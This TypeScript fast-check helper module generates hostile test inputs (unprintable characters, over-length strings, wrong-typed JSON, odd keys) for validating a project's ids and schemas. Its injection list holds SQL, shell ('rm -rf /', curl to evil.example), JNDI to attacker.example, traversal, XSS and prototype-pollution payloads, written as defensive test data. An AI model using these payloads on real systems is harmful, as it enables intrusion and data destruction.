import fc from 'fast-check';

/**
 * Building blocks of hostile input: strings that break terminals and parsers, ids that look like
 * injections, sizes far past any limit, and JSON values of every type.
 */

/** Characters that, printed raw, rewrite a terminal or log line: controls, separators, invisible and direction-changing ones, a lone surrogate. */
export const UNPRINTABLE_CHARS = [
  '\u0000', '\u0007', '\b', '\t', '\n', '\r', '\u001b', '\u001b[2J', '\u007f', '\u0085', '\u009b', '\u00ad',
  '\u200b', '\u200e', '\u2028', '\u2029', '\u202e', '\u2066', '\ufeff', '\ud800',
];

/** What a message may not contain, restated independently of the code that escapes it. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
export const UNPRINTABLE = /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]/u;

export const unprintableChar = fc.constantFrom(...UNPRINTABLE_CHARS);

/** Text that a human might paste: accents, emoji, scripts written right to left. */
export const unicodeText = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 });

/** The text with an unprintable character somewhere in it. */
export function withUnprintable(text: string): fc.Arbitrary<string> {
  return fc.tuple(unprintableChar, fc.nat({ max: text.length })).map(([c, at]) => `${text.slice(0, at)}${c}${text.slice(at)}`);
}

/**
 * Ids that try to escape where they are used: SQL, shell, path traversal, templates, ARNs with a
 * qualifier. Each holds a character no fledge id allows (space, quote, `$`, `/`, `;`, …).
 */
export const INJECTION_IDS = [
  "'; DROP TABLE rollouts; --",
  '" OR "1"="1',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '$(reboot)',
  '`id`',
  'live; rm -rf /',
  'live && curl evil.example',
  'a|b',
  '%00',
  '%2e%2e%2f',
  '*',
  '?',
  'orders api',
  ' live',
  'live ',
  '$LATEST',
  'arn:aws:lambda:eu-west-1:123456789012:function:orders-api:$LATEST',
  'arn:aws:lambda:eu-west-1:123456789012:function:orders-api/7',
  '{"$gt": ""}',
  '__proto__[polluted]=1',
];

export const injectionId = fc.constantFrom(...INJECTION_IDS);

/** Path segments that would walk up a REST path (`/applications/../…`): no id may be one. */
export const dotSegment = fc.constantFrom('.', '..');

/** A string far past a length limit, of a character the field allows: only its length is wrong. */
export function overLength(limit: number, char = 'a'): fc.Arbitrary<string> {
  return fc.oneof(fc.integer({ min: limit + 1, max: limit + 16 }), fc.integer({ min: limit + 1, max: 300_000 })).map((n) => char.repeat(n));
}

/** A count past an array's limit: mostly just past it, sometimes far past. */
export function overCount(limit: number): fc.Arbitrary<number> {
  return fc.oneof({ weight: 3, arbitrary: fc.integer({ min: limit + 1, max: limit + 5 }) }, { weight: 1, arbitrary: fc.integer({ min: limit + 1, max: 5_000 }) });
}

export type JsonType = 'string' | 'number' | 'boolean' | 'null' | 'array' | 'object';

const JSON_OF_TYPE: Record<JsonType, fc.Arbitrary<unknown>> = {
  string: fc.oneof(fc.string({ maxLength: 8 }), injectionId, unicodeText),
  number: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324)),
  boolean: fc.boolean(),
  null: fc.constant(null),
  array: fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  object: fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
};

/** A JSON value of none of the given types. */
export function jsonValueNotOf(accepted: readonly JsonType[]): fc.Arbitrary<unknown> {
  const others = (Object.keys(JSON_OF_TYPE) as JsonType[]).filter((t) => !accepted.includes(t));
  return fc.oneof(...others.map((t) => JSON_OF_TYPE[t]));
}

/**
 * Keys no fledge schema has: capitalised names (every field is camelCase), and hostile ones
 * (controls, prototype names, a kilobyte of text, an empty string).
 */
export const unknownKey = fc.oneof(
  fc.stringMatching(/^[A-Z][a-zA-Z]{0,15}$/),
  fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', '', ' ', '$where', '0', 'a.b', 'a[0]'),
  fc.stringMatching(/^[A-Z][a-z]{0,8}$/).chain(withUnprintable),
  injectionId,
  unicodeText.map((t) => `X${t}`),
  overLength(100, 'K'),
);

/** Sets `key` as an own property, even `__proto__` (plain assignment would set the prototype instead). */
export function withKey<T extends object>(target: T, key: string, value: unknown): T {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}
